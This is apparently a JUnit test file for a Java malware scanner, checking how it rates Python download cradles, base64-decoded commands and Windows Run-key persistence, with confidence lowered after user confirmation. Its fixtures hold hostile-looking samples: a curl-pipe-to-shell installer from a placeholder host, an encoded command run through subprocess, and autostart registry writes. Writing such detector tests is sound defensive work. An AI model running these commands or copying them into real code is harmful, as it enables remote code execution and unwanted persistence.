package dev.chainhunt;

import dev.chainhunt.model.Target;
import dev.chainhunt.model.Verdict;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class ScannerTest {

    private final Scanner scanner = new Scanner(ScanOptions.defaults());

    /** The findings of one rule when {@code code} is scanned as the file {@code path}. */
    private List<dev.chainhunt.model.Finding> findings(String path, String code, String ruleId) {
        return scanner.scan(Target.of(path, code.getBytes(StandardCharsets.UTF_8))).findings().stream()
                .filter(f -> f.ruleId().equals(ruleId)).toList();
    }

    @Test
    void batchResultsComeBackInInputOrderAndNoneIsDropped() {
        List<Target> targets = new ArrayList<>();
        for (int i = 0; i < 200; i++) {
            targets.add(i % 7 == 0 ? Target.of(Path.of("does/not/exist-" + i + ".tar.gz"))
                    : Target.of("t" + i + ".py", ("x = " + i + "\n").repeat(i * 50).getBytes(StandardCharsets.UTF_8)));
        }
        List<String> seen = new ArrayList<>();
        scanner.scanAll(targets, 4, r -> seen.add(r.target()));
        assertThat(seen).containsExactlyElementsOf(targets.stream().map(Target::name).toList());
    }

    @Test
    void anUnreadableTargetIsAResultWithAnError() {
        ScanResult r = scanner.scan(Target.of(Path.of("no/such/file.whl")));
        assertThat(r.verdict()).isEqualTo(Verdict.ERROR);
        assertThat(r.error()).isEqualTo("no such file or directory");
        assertThat(r.findings()).isEmpty();
    }

    @Test
    void indicatorsAreDeduplicatedPerTarget() {
        String code = "a = 'https://example.invalid/x'\nb = 'https://example.invalid/x'\n";
        ScanResult r = scanner.scan(Target.of("dup.py", code.getBytes(StandardCharsets.UTF_8)));
        assertThat(r.indicators()).extracting(i -> i.kind().id() + " " + i.value() + " @" + i.location().line())
                .containsExactly("url https://example.invalid/x @1", "domain example.invalid @1");
    }

    @Test
    void aCommandTheUserConfirmsAtAPromptIsReportedWithLowConfidence() {
        String code = """
                import subprocess
                CMD = "curl -sSf https://installer.example.invalid/init.sh | sh"
                def install(assume_yes=False):
                    if not assume_yes and input("Run the installer? [y/N] ") != "y":
                        return 1
                    return subprocess.call(CMD, shell=True)
                def silent():
                    name = input("Your name: ")
                    return subprocess.call(CMD, shell=True)
                """;
        List<dev.chainhunt.model.Finding> cradles = findings("tool.py", code, "py-process-download-cradle");
        assertThat(cradles).hasSize(2);
        assertThat(cradles.get(0).confidence()).isEqualTo(dev.chainhunt.model.Confidence.LOW);
        assertThat(cradles.get(0).message()).endsWith("after asking the user to confirm");
        assertThat(cradles.get(1).confidence()).as("a prompt for a name is no confirmation")
                .isNotEqualTo(dev.chainhunt.model.Confidence.LOW);
    }

    @Test
    void anAnswerKeptInASettingThatIsReturnedConfirmsToo() {
        // The crash reporter's helper keeps the answer in its settings and returns it; the sender
        // runs only after it said yes.
        String code = """
                import subprocess
                CMD = "curl -sSf https://installer.example.invalid/init.sh | sh"
                def ask(cfg):
                    ans = input("{} crashed. Send a report? [y/N] ".format(cfg["app"]))
                    cfg["consent"] = ans.strip().lower() in ("y", "yes")
                    return cfg["consent"]
                def send():
                    return subprocess.call(CMD, shell=True)
                def hook(cfg):
                    if ask(cfg):
                        send()
                """;
        assertThat(findings("tool.py", code, "py-process-download-cradle"))
                .extracting(dev.chainhunt.model.Finding::confidence).containsOnly(dev.chainhunt.model.Confidence.LOW);
        String dropped = code.replace("    return cfg[\"consent\"]\n", "    return True\n");
        assertThat(dropped).isNotEqualTo(code);
        assertThat(findings("tool.py", dropped, "py-process-download-cradle"))
                .extracting(dev.chainhunt.model.Finding::confidence).doesNotContain(dev.chainhunt.model.Confidence.LOW);
    }

    @Test
    void aCommandListWithADecodedItemNamesItsDecodeChain() {
        String code = """
                import base64, subprocess, sys
                code = base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=").decode()
                subprocess.Popen([sys.executable, "-c", code])
                """;
        assertThat(findings("run.py", code, "py-process-decoded-command"))
                .extracting(dev.chainhunt.model.Finding::message)
                .containsExactly("subprocess.Popen runs a command decoded by base64");
    }

    @Test
    void aStartAtLoginSwitchThatAlsoTakesTheEntryBackIsReportedWithLowConfidence() {
        String toggle = """
                import winreg
                RUN = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"
                def set_enabled(enabled, command):
                    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE) as k:
                        if enabled:
                            winreg.SetValueEx(k, "clockbar", 0, winreg.REG_SZ, command)
                        else:
                            winreg.DeleteValue(k, "clockbar")
                """;
        // A dropper that clears an old entry right before writing it again has no off switch.
        String reinstall = toggle.replace("""
                        if enabled:
                            winreg.SetValueEx(k, "clockbar", 0, winreg.REG_SZ, command)
                        else:
                            winreg.DeleteValue(k, "clockbar")
                """, """
                        winreg.DeleteValue(k, "clockbar")
                        winreg.SetValueEx(k, "clockbar", 0, winreg.REG_SZ, command)
                """);
        assertThat(reinstall).isNotEqualTo(toggle);
        for (String code : List.of(toggle, reinstall)) {
            List<dev.chainhunt.model.Finding> persistence = findings("autostart.py", code, "py-persistence");
            assertThat(persistence).isNotEmpty();
            assertThat(persistence).extracting(dev.chainhunt.model.Finding::confidence).containsOnly(code == toggle
                    ? dev.chainhunt.model.Confidence.LOW : dev.chainhunt.model.Confidence.HIGH);
        }
        // Code that runs on its own is reported as usual, off switch or not.
        String atImport = toggle + "set_enabled(True, 'pythonw -m clockbar')\n";
        assertThat(findings("pkg/__init__.py", atImport, "py-persistence"))
                .extracting(dev.chainhunt.model.Finding::confidence).contains(dev.chainhunt.model.Confidence.HIGH);
    }

    @Test
    void aQuestionWhoseAnswerIsDroppedConfirmsNothing() {
        String code = """
                import click, subprocess
                CMD = "curl -sSf https://installer.example.invalid/init.sh | sh"
                def ignored():
                    input("Continue? [y/N] ")
                    return subprocess.call(CMD, shell=True)
                def kept():
                    answer = input("Continue? [y/N] ").strip().lower()
                    if answer not in ("y", "yes"):
                        return 1
                    return subprocess.call(CMD, shell=True)
                def aborting():
                    click.confirm("Run the installer?", abort=True)
                    return subprocess.call(CMD, shell=True)
                def unread():
                    answer = input("Continue? [y/N] ")
                    return subprocess.call(CMD, shell=True)
                """;
        assertThat(findings("tool.py", code, "py-process-download-cradle"))
                .extracting(f -> f.location().line() + " " + (f.confidence() == dev.chainhunt.model.Confidence.LOW))
                .containsExactly("5 false", "10 true", "13 true", "16 false");
    }

    @Test
    void aConfirmationAskedByAHelperCalledFirstCountsAsAsked() {
        String code = """
                import subprocess
                CMD = "curl -sSf https://installer.example.invalid/init.sh | sh"
                def _check_trust(repo):
                    if input(f"Trust {repo} and run its code? (y/N) ") != "y":
                        raise RuntimeError(repo)
                class Loader:
                    def _confirm(self):
                        _check_trust("x")
                    def load(self):
                        self._confirm()
                        return subprocess.call(CMD, shell=True)
                def unasked():
                    subprocess.call(CMD, shell=True)
                    _check_trust("y")
                """;
        List<dev.chainhunt.model.Finding> cradles = findings("hub.py", code, "py-process-download-cradle");
        assertThat(cradles).extracting(f -> f.location().line() + " " + f.confidence().id())
                .containsExactly("11 low", "13 " + cradles.get(1).confidence().id());
        assertThat(cradles.get(1).confidence()).as("asking after running is no confirmation")
                .isNotEqualTo(dev.chainhunt.model.Confidence.LOW);
    }

    @Test
    void aHelperThatOnlyConfirmingCallersCallRunsAfterTheQuestion() {
        String code = """
                import subprocess
                CMD = "curl -sSf https://installer.example.invalid/init.sh | sh"
                def _confirm():
                    return input("Run it? [y/N] ") == "y"
                def _run():
                    return subprocess.call(CMD, shell=True)
                def install():
                    if _confirm():
                        _run()
                def reinstall():
                    if _confirm():
                        return _run()
                def _other():
                    return subprocess.call(CMD, shell=True)
                def install_quietly():
                    _other()
                def install_again():
                    if _confirm():
                        _other()
                """;
        ScanResult r = scanner.scan(Target.of("setup_tool.py", code.getBytes(StandardCharsets.UTF_8)));
        assertThat(r.findings().stream().filter(f -> f.ruleId().equals("py-process-download-cradle")))
                .extracting(f -> f.location().line() + " " + f.confidence().id())
                .as("a helper some caller runs without asking is not confirmed")
                .containsExactly("6 low", "14 " + r.findings().stream().filter(f -> f.location().line() == 14)
                        .findFirst().orElseThrow().confidence().id());
        assertThat(r.findings()).filteredOn(f -> f.location().line() == 14)
                .allMatch(f -> f.confidence() != dev.chainhunt.model.Confidence.LOW);
    }
}
